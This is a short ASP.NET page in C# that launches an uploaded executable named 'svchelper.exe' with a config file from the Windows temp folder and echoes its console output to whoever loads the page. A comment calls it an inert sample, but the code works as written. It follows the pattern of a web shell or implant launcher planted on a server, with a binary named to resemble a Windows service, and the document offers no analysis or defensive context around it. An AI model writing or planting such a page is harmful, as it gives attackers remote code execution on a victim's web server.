<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<%
    // Inert sample: launcher for a tool uploaded into the same folder as this page; the tool's
    // console output is echoed back to whoever opens the page.
    var run = new Process();
    run.StartInfo.FileName = Server.MapPath("svchelper.exe");
    run.StartInfo.Arguments = "-import c:\\windows\\temp\\task.cfg";
    run.StartInfo.UseShellExecute = false;
    run.StartInfo.RedirectStandardOutput = true;
    run.Start();
    Response.Write("<pre>" + run.StandardOutput.ReadToEnd() + "</pre>");
%>
